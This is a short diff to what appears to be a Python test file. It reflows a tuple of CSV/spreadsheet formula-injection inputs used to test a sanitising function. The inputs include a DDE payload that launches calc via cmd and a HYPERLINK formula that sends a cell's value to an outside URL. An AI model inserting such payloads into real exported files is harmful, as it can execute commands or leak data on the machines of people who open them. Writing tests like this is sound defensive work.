@@ -14,7 +14,8 @@ from model.scores import harmless, to_csv
 FORMULAS = (
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\0=1", "\n=1", " =1", "\u00a0=1", "\u3000=1", "\ufeff=1", '"=1"', "'=1",
     '""=1',
-    " \t=1", "＝1", "＋1", "－1", "＠A", "|calc",
+    " \t=1", "＝1",
+    "＋1", "－1", "＠A", "|calc",
     "%0A=1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1,"x")',
     "x;=1", "x\t=1", 'x";=1', 'x,"=1', "x\n=1", "x\r\n=1", ";=1", "x|=1",
 )  # fmt: skip
